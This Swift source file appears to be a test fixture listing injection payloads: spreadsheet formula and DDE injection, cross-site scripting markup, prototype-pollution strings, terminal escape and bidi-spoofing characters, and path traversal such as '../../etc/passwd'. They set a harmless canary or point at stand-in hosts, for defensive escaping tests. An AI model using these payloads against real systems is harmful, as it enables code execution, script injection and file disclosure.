/// Names that attack whatever shows them.
public enum Payloads {
  /// Spreadsheets would evaluate these.
  public static let formulas = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x\",\"y\")",
    "=IMPORTXML(CONCAT(\"http://x?\",A1),\"//a\")", "=WEBSERVICE(\"http://x\")",
    "-2+3+cmd|' /C x'!A0",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u{3000}=1+1",
    "\u{A0}@x", "\u{FEFF}=1+1", "\u{200B}=1+1", "+A1", "-A1", "=\u{0}1", "=1+1\";=2+2",
    "=A1,\"=B1\"", "=DDE(\"cmd\";\"/C calc\";\"x\")", "%0A=1+1", "\u{202E}=1+1",
  ]

  /// Browsers would run or fetch these: HTML, SVG, styles, scripts, JSON in scripts, links. What runs
  /// sets `canary`; what is fetched is of a host that does not exist.
  public static let markup = [
    "<script>canary=1</script>", "\"><img src=x onerror=canary=1>", "</td></table><b>",
    "&lt;script&gt;canary=1&lt;/script&gt;", "<svg/onload=canary=1>", "'onmouseover='canary=1'",
    "]]><script>canary=1</script>", "javascript:canary=1", "</script><script>canary=1</script>",
    "</title><script>canary=1</script>", "</style><script>canary=1</script>",
    "<!--<script>canary=1</script>", "--><script>canary=1</script>",
    "\";canary=1;//", "';canary=1;//", "`+(canary=1)+`", "${canary=1}", "{{canary=1}}",
    "\\u003cscript\\u003ecanary=1\\u003c/script\\u003e", "%3Cscript%3Ecanary=1%3C/script%3E",
    "\\\"};canary=1;({\\\"", "\u{2028}canary=1;//",
    "<iframe srcdoc=\"<script>parent.canary=1</script>\">", "<a href=javascript:canary=1>x</a>",
    "<img src=http://canary.invalid/x>", "<link rel=stylesheet href=http://canary.invalid/x>",
    "<meta http-equiv=refresh content=0;http://canary.invalid/x>",
    "<base href=http://canary.invalid/>",
    "url(http://canary.invalid/x)", "}@import'http://canary.invalid/x';{",
    "red;background:url(http://canary.invalid/x)", "expression(canary=1)", "<plaintext>",
    "<form action=http://canary.invalid/><button>x", "<math><mtext><script>canary=1</script>",
    "<svg><a xlink:href=javascript:canary=1><text>x",
    "<svg><style>*{x:url(http://canary.invalid/x)}",
    "<svg><image href=http://canary.invalid/x>", "<template><script>canary=1</script>",
  ]

  /// Vega would evaluate these, and scripts would take them for parts of objects.
  public static let expressions = [
    "__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "length", "null", "NaN",
    "datum.constructor.constructor('canary=1')()", "'+event.view.eval('canary=1')+'",
    "{\"signal\":\"canary\"}", "\"},{\"url\":\"http://canary.invalid/x\"", "a.b", "a[0]", "a['b']",
    "a\\.b", "\\", "\\\"", "'", "\"", "a\\nb",
  ]

  /// Terminals would obey these, and readers would take one name for another.
  public static let terminal = [
    "\u{1B}[2J", "\u{1B}]0;title\u{7}", "\u{9B}31m", "a\u{8}b", "\u{202E}txt.exe", "a\rb", "\u{7F}",
    "\u{7}", "\u{1B}]8;;http://canary.invalid\u{1B}\\x", "\u{2066}a\u{2069}", "a\u{200B}b",
    "a\u{200D}b", "\u{200F}a", "a\u{2060}b", "a\u{AD}b", "a\u{85}b", "a\u{E0041}b", "a\u{61C}b",
  ]

  /// File systems would follow these.
  public static let paths = [
    "../../etc/passwd", "/etc/passwd", "a/b", "C:\\x", "..", ".", "-o", "nul\u{0}", "%2e%2e%2f",
    "~/x", "a\\..\\b", "CON", "con.txt", String(repeating: "长", count: 300), "file:///etc/passwd",
    "\\\\canary.invalid\\x", "a:b", "*", "?", "|true", "$(true)", "`true`",
  ]

  /// All of them.
  public static let all = formulas + markup + expressions + terminal + paths

  /// Whether a text holds a character that a terminal obeys or a reader does not see.
  public static func isVisible(_ text: String) -> Bool {
    text.unicodeScalars.allSatisfy { scalar in
      switch scalar.properties.generalCategory {
      case .control: scalar == "\n"
      case .format, .lineSeparator, .paragraphSeparator: false
      default: true
      }
    }
  }
}
